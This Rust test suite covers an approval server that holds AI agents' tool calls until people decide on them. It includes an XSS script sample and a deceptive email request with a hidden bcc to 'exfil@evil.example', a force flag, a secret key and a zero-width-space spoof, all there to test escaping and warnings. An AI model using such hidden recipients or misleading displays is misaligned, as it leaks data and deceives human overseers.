//! Per-call approvals end to end over real HTTP: agents file requests and long-poll, people
//! decide through the same server functions the browser calls, and every rule of the
//! decision holds on SQLite and on PostgreSQL. The last test runs two `flightdeck serve`
//! processes on one PostgreSQL database and checks that a decision on one wakes a long
//! poll waiting on the other.

mod common;

use app::auth::password;
use common::{token, Live, Person, PASSWORD};
use domain::access::{Role, Scope};
use domain::approvals::payload::payload_sha256;
use reqwest::StatusCode;
use serde_json::{json, Value};
use std::time::Duration;
use store::testing::TestDb;
use store::{audit, users};

/// Approvers alice and bob, a viewer victor, and an agent token with the `approvals` scope.
async fn live(t: &TestDb) -> Live {
    let approver: &[Role] = &[Role::Approver, Role::Viewer];
    common::live(t, &[("alice", approver), ("bob", approver), ("victor", &[Role::Viewer])], &[Scope::Approvals]).await
}

impl Live {
    async fn request(&self, body: Value) -> (StatusCode, Value) {
        self.api(reqwest::Method::POST, "/api/v1/approvals", Some(body), &self.agent).await
    }

    async fn poll(&self, id: &str, wait: u64) -> Value {
        let (status, body) =
            self.api(reqwest::Method::GET, &format!("/api/v1/approvals/{id}?wait={wait}"), None, &self.agent).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        body
    }
}

trait Decide {
    async fn decide(&self, id: &str, decision: &str, sha: &str, reason: &str) -> (StatusCode, String);
}

impl Decide for Person {
    async fn decide(&self, id: &str, decision: &str, sha: &str, reason: &str) -> (StatusCode, String) {
        self.call("decide_approval", &[("id", id), ("decision", decision), ("payload_sha256", sha), ("reason", reason)])
            .await
    }
}

fn email(run: &str, key: &str, body: &str) -> Value {
    json!({
        "run_id": run, "step_index": 3, "tool": "send_email", "idempotency_key": key,
        "arguments": {"to": "ana@example.com", "subject": "Invoice", "body": body},
        "display": [{"label": "Recipient", "value": "ana@example.com"}, {"label": "Body", "value": body}]
    })
}

#[tokio::test]
async fn agents_file_requests_with_clear_validation_and_idempotency() {
    for t in TestDb::each_backend().await {
        let s = live(&t).await;
        let (status, created) = s.request(email("run-1", "k1", "Hello")).await;
        assert_eq!(status, StatusCode::CREATED, "{created}");
        assert_eq!(created["status"], "pending");
        let args = json!({"to": "ana@example.com", "subject": "Invoice", "body": "Hello"});
        assert_eq!(created["payload_sha256"], payload_sha256("send_email", &args), "hash over tool and arguments");
        assert!(created["expires_at"].is_string());

        let (status, again) = s.request(email("run-1", "k1", "Hello")).await;
        assert_eq!(status, StatusCode::OK, "same key, same payload: the existing request");
        assert_eq!(again["id"], created["id"]);
        let (status, conflict) = s.request(email("run-1", "k1", "Hello, changed")).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(conflict["error"]["message"].as_str().unwrap().contains("different payload"), "{conflict}");

        for (body, needle) in [
            (json!({"tool": "t", "arguments": {}}), "`run_id` is required"),
            (json!({"run_id": "r", "tool": "t"}), "`arguments` is required"),
            (json!({"run_id": "r", "tool": "t", "arguments": {}, "expires_in": -5}), "`expires_in`"),
            (json!({"run_id": "r", "tool": "t", "arguments": {}, "colour": "red"}), "unknown field"),
        ] {
            let (status, body) = s.request(body).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
            assert!(body["error"]["message"].as_str().unwrap().contains(needle), "{needle}: {body}");
        }
        let reader = token(&t.db, "reader", &[Scope::Read]).await;
        let (status, _) = s.api(reqwest::Method::POST, "/api/v1/approvals", Some(email("r", "k", "b")), &reader).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "the approvals scope is needed");
        let (status, _) = s.api(reqwest::Method::GET, "/api/v1/approvals/apr_nope", None, &s.agent).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        t.cleanup().await;
    }
}

#[tokio::test]
async fn a_decision_on_the_shown_payload_wakes_the_waiting_agent() {
    for t in TestDb::each_backend().await {
        let s = live(&t).await;
        let (_, created) = s.request(email("run-2", "k2", "Pay 10 EUR")).await;
        let id = created["id"].as_str().unwrap().to_string();
        let sha = created["payload_sha256"].as_str().unwrap().to_string();

        let pending = s.poll(&id, 0).await;
        assert_eq!(pending["status"], "pending", "wait=0 answers at once");
        let waiter = {
            let (base, agent) = (s.base.clone(), s.agent.clone());
            let id = id.clone();
            tokio::spawn(async move {
                let url = format!("{base}/api/v1/approvals/{id}?wait=30");
                let res = reqwest::Client::new().get(url).bearer_auth(agent).send().await.unwrap();
                res.json::<Value>().await.unwrap()
            })
        };
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert!(!waiter.is_finished(), "the long poll waits while the request is pending");

        let alice = s.person("alice").await;
        let wrong = "0".repeat(64);
        let (status, body) = alice.decide(&id, "approve", &wrong, "").await;
        assert_eq!(status, StatusCode::CONFLICT, "{body}");
        assert!(body.contains("not the one this request is bound to"), "{body}");
        assert!(!waiter.is_finished(), "a refused decision changes nothing");

        let (status, body) = alice.decide(&id, "approve", &sha, "").await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let woken = tokio::time::timeout(Duration::from_secs(20), waiter).await.unwrap().unwrap();
        assert_eq!(woken["status"], "approved");
        assert_eq!(woken["decided_by"], "alice");
        assert_eq!(woken["payload_sha256"], sha.as_str());

        let (status, body) = alice.decide(&id, "deny", &sha, "changed my mind").await;
        assert_eq!(status, StatusCode::CONFLICT);
        assert!(body.contains("already approved by alice"), "{body}");
        let log = audit::list(&t.db, None, Some("approval_approved"), 10).await.unwrap();
        assert_eq!(log.entries.len(), 1);
        assert!(log.entries[0].detail.as_deref().unwrap().contains(&sha), "the audit names the payload hash");
        t.cleanup().await;
    }
}

#[tokio::test]
async fn of_two_simultaneous_decisions_exactly_one_wins() {
    for t in TestDb::each_backend().await {
        let s = live(&t).await;
        let (alice, bob) = (s.person("alice").await, s.person("bob").await);
        for round in 0..5 {
            let (_, created) = s.request(email("run-3", &format!("k{round}"), &format!("round {round}"))).await;
            let id = created["id"].as_str().unwrap();
            let sha = created["payload_sha256"].as_str().unwrap();
            let (a, b) = tokio::join!(alice.decide(id, "approve", sha, ""), bob.decide(id, "deny", sha, "no"));
            let wins = [a.0, b.0].iter().filter(|s| **s == StatusCode::OK).count();
            assert_eq!(wins, 1, "round {round}: {a:?} {b:?}");
            let loser = if a.0 == StatusCode::OK { &b.1 } else { &a.1 };
            assert!(loser.contains("already"), "the loser learns who decided first: {loser}");
            let final_state = s.poll(id, 0).await;
            let winner = if a.0 == StatusCode::OK { "alice" } else { "bob" };
            assert_eq!(final_state["decided_by"], winner);
        }
        t.cleanup().await;
    }
}

#[tokio::test]
async fn viewers_cannot_decide_and_a_denial_needs_a_reason() {
    for t in TestDb::each_backend().await {
        let s = live(&t).await;
        let (_, created) = s.request(email("run-4", "k4", "Delete the repo")).await;
        let id = created["id"].as_str().unwrap();
        let sha = created["payload_sha256"].as_str().unwrap();
        let victor = s.person("victor").await;
        let (status, body) = victor.decide(id, "approve", sha, "").await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
        assert!(body.contains("approver"), "{body}");
        let alice = s.person("alice").await;
        let (status, body) = alice.decide(id, "deny", sha, "   ").await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert!(body.contains("needs a reason"), "{body}");
        assert_eq!(s.poll(id, 0).await["status"], "pending", "refusals change nothing");
        let (status, _) = alice.decide(id, "deny", sha, "Wrong recipient <b>list</b>").await;
        assert_eq!(status, StatusCode::OK);
        let denied = s.poll(id, 5).await;
        assert_eq!(denied["status"], "denied");
        assert_eq!(denied["reason"], "Wrong recipient <b>list</b>");
        t.cleanup().await;
    }
}

#[tokio::test]
async fn requests_expire_wake_their_waiters_and_can_be_cancelled() {
    for t in TestDb::each_backend().await {
        let s = live(&t).await;
        let mut body = email("run-5", "k5", "soon gone");
        body["expires_in"] = json!(1);
        let (_, created) = s.request(body).await;
        let id = created["id"].as_str().unwrap();
        let sha = created["payload_sha256"].as_str().unwrap();
        let expired = s.poll(id, 20).await;
        assert_eq!(expired["status"], "expired", "the waiter learns of the expiry: {expired}");
        let alice = s.person("alice").await;
        let (status, msg) = alice.decide(id, "approve", sha, "").await;
        assert_eq!(status, StatusCode::CONFLICT);
        assert!(msg.contains("expired"), "{msg}");

        let (_, other) = s.request(email("run-5", "k6", "never mind")).await;
        let other_id = other["id"].as_str().unwrap();
        let path = format!("/api/v1/approvals/{other_id}/cancel");
        let (status, cancelled) = s.api(reqwest::Method::POST, &path, None, &s.agent).await;
        assert_eq!((status, cancelled["status"].as_str()), (StatusCode::OK, Some("cancelled")));
        let (_, again) = s.api(reqwest::Method::POST, &path, None, &s.agent).await;
        assert_eq!(again["status"], "cancelled", "cancelling twice changes nothing");
        t.cleanup().await;
    }
}

#[tokio::test]
async fn the_inbox_and_request_pages_show_the_payload_as_text() {
    for t in TestDb::each_backend().await {
        let s = live(&t).await;
        let hostile = "<script>alert(1)</script>\tindented  ";
        let (_, created) = s.request(email("run-6", "k7", hostile)).await;
        let id = created["id"].as_str().unwrap();
        let victor = s.person("victor").await;
        let inbox = victor.http.get(format!("{}/approvals", s.base)).send().await.unwrap().text().await.unwrap();
        assert!(inbox.contains(id) && inbox.contains("send_email"), "the request is in the inbox");
        let page = victor.http.get(format!("{}/approvals/{id}", s.base)).send().await.unwrap().text().await.unwrap();
        assert!(!page.contains("<script>alert(1)"), "agent text is never HTML");
        assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "but it is all there, as text");
        assert!(page.contains("⇥") && page.contains("··"), "the tab and trailing spaces are made visible");
        assert!(page.contains("cannot-decide"), "a viewer is told they cannot decide");
        t.cleanup().await;
    }
}

/// Two server processes on one PostgreSQL: a decision taken on A wakes a long poll held
/// by B through LISTEN/NOTIFY. B's safety-net re-read is set to a minute, longer than the
/// wait, so only a notification can deliver the decision in time.
#[tokio::test]
async fn a_decision_on_one_instance_wakes_a_long_poll_on_another() {
    let Some(t) = TestDb::postgres().await else { return };
    let hash = password::hash(PASSWORD);
    users::create(&t.db, "alice", &hash, &[Role::Approver, Role::Viewer]).await.unwrap();
    let agent = token(&t.db, "agent", &[Scope::Approvals]).await;
    let data = tempfile::tempdir().unwrap();
    let a = instance(&t.url, data.path());
    let b = instance(&t.url, data.path());
    let s = Live { base: a.base.clone(), agent: agent.clone(), http: reqwest::Client::new() };
    let (_, created) = s.request(email("run-x", "kx", "two instances")).await;
    let id = created["id"].as_str().unwrap().to_string();
    let sha = created["payload_sha256"].as_str().unwrap().to_string();
    let waiter = {
        let url = format!("{}/api/v1/approvals/{id}?wait=20", b.base);
        tokio::spawn(async move {
            reqwest::Client::new().get(url).bearer_auth(agent).send().await.unwrap().json::<Value>().await.unwrap()
        })
    };
    tokio::time::sleep(Duration::from_millis(500)).await;
    let alice = s.person("alice").await;
    let (status, body) = alice.decide(&id, "approve", &sha, "").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let woken = waiter.await.unwrap();
    assert_eq!(woken["status"], "approved", "instance B heard A's decision: {woken}");
    drop((a, b));
    t.cleanup().await;
}

/// One `flightdeck serve` on the shared database.
fn instance(database_url: &str, data_dir: &std::path::Path) -> common::serving::Serving {
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_flightdeck"));
    command
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("FLIGHTDECK_DATA_DIR", data_dir)
        .env("DATABASE_URL", database_url)
        .env("FLIGHTDECK_APPROVAL_RECHECK_SECONDS", "60")
        .env("RUST_LOG", "info")
        .arg("serve");
    common::serving::Serving::start(command)
}

#[tokio::test]
async fn the_agent_can_shorten_the_policys_expiry_but_never_lengthen_it() {
    for t in TestDb::each_backend().await {
        let s = live(&t).await;
        let mut policy = domain::policy::ToolPolicy::class("send_*", domain::canonical::SideEffect::Irreversible);
        policy.requires_approval = true;
        policy.expiry_seconds = Some(900);
        store::policies::upsert(&t.db, &policy).await.unwrap();
        let seconds_open = |v: &Value| {
            let at = |k: &str| chrono::DateTime::parse_from_rfc3339(v[k].as_str().unwrap()).unwrap();
            (at("expires_at") - at("created_at")).num_seconds()
        };
        let mut three_days = email("run-x", "k-long", "hi");
        three_days["expires_in"] = json!(3 * 24 * 3600);
        let (status, created) = s.request(three_days).await;
        assert_eq!(status, StatusCode::CREATED, "{created}");
        assert_eq!(seconds_open(&created), 900, "3 days asked under a 900 s policy: 900 s given");
        let mut one_minute = email("run-x", "k-short", "hi");
        one_minute["expires_in"] = json!(60);
        let (_, created) = s.request(one_minute).await;
        assert_eq!(seconds_open(&created), 60, "shortening is allowed");
        t.cleanup().await;
    }
}

#[tokio::test]
async fn only_the_requesting_token_or_an_administrator_may_cancel() {
    for t in TestDb::each_backend().await {
        let s = live(&t).await;
        users::create(&t.db, "root", &password::hash(PASSWORD), &[Role::Admin, Role::Viewer]).await.unwrap();
        let (_, created) = s.request(email("run-c", "kc", "hi")).await;
        let id = created["id"].as_str().unwrap();
        let intruder = token(&t.db, "other-agent", &[Scope::Approvals]).await;
        let path = format!("/api/v1/approvals/{id}/cancel");
        let (status, body) = s.api(reqwest::Method::POST, &path, None, &intruder).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
        assert!(body["error"]["message"].as_str().unwrap().contains("only the token that filed"), "{body}");
        assert_eq!(s.poll(id, 0).await["status"], "pending", "nothing changed");

        let victor = s.person("victor").await;
        let (status, _) = victor.call("cancel_approval", &[("id", id)]).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "a viewer cannot cancel");
        let root = s.person("root").await;
        let (status, body) = root.call("cancel_approval", &[("id", id), ("reason", "filed by mistake")]).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let after = s.poll(id, 0).await;
        assert_eq!(after["status"], "cancelled");
        assert_eq!(after["decided_by"], "user:root");
        let audit = audit::list(&t.db, None, Some("approval_cancelled"), 5).await.unwrap().entries;
        assert_eq!(audit.len(), 1);
        assert!(audit[0].detail.as_deref().unwrap().contains("filed by mistake"));
        t.cleanup().await;
    }
}

#[tokio::test]
async fn the_request_page_puts_the_arguments_first_and_calls_out_what_the_description_hides() {
    for t in TestDb::each_backend().await {
        let s = live(&t).await;
        let (status, created) = s
            .request(json!({
                "run_id": "run-d", "tool": "send_email",
                "arguments": {"to": "ana@example.com", "subject": "Invoice", "body": "Attached.",
                              "bcc": "exfil@evil.example", "force": true,
                              "api_key": "sk_live_4eC39HqLyjWDarjtT1zdp7dc"},
                "display": [
                    {"label": "To", "value": "ana@exam\u{200B}ple.com"},
                    {"label": "Subject", "value": "Invoice"},
                    {"label": "Body", "value": "Attached."}
                ]
            }))
            .await;
        assert_eq!(status, StatusCode::CREATED, "{created}");
        let id = created["id"].as_str().unwrap();
        let sent = json!({"to": "ana@example.com", "subject": "Invoice", "body": "Attached.",
                          "bcc": "exfil@evil.example", "force": true, "api_key": "sk_live_4eC39HqLyjWDarjtT1zdp7dc"});
        assert_eq!(created["payload_sha256"], payload_sha256("send_email", &sent), "the hash binds what was sent");
        let stored = store::approvals::get(&t.db, id).await.unwrap().unwrap();
        assert!(!stored.arguments.contains("sk_live_"), "the key is not stored: {}", stored.arguments);

        let alice = s.person("alice").await;
        let page = alice.page(&format!("/approvals/{id}")).await;
        let at = |needle: &str| page.find(needle).unwrap_or_else(|| panic!("{needle} missing from the page"));
        assert!(at("Exactly what will run") < at("data-testid=\"agent-description\""), "arguments come first");
        assert!(at("data-testid=\"arguments\"") < at("data-testid=\"display-fields\""));
        let warnings = &page[at("data-testid=\"display-warnings\"")..];
        for hidden in ["bcc", "exfil@evil.example", "force"] {
            assert!(warnings.contains(hidden), "{hidden} is called out");
        }
        assert!(warnings.contains("[U+200B]"), "the zero-width space is shown");
        assert!(page.contains("data-testid=\"redacted-note\""), "the approver is told a value was redacted");
        assert!(page.contains("[REDACTED]"));

        // Decided, the page no longer says what "will" run.
        let sha = created["payload_sha256"].as_str().unwrap();
        assert_eq!(alice.decide(id, "deny", sha, "bcc to an outside address").await.0, StatusCode::OK);
        let page = alice.page(&format!("/approvals/{id}")).await;
        assert!(!page.contains("Exactly what will run") && page.contains("The payload this decision is bound to"));
        t.cleanup().await;
    }
}
